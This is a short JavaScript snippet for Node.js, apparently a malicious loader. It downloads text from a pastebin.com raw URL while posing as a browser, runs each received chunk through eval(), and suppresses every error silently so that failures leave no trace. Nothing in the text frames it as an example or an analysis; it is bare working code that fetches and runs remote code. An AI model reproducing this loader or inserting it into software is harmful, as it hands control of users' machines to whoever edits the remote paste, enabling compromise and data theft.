try {
  var https = require('https');
  https.get({ hostname: 'pastebin.com', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0' } }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => { eval(c); });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
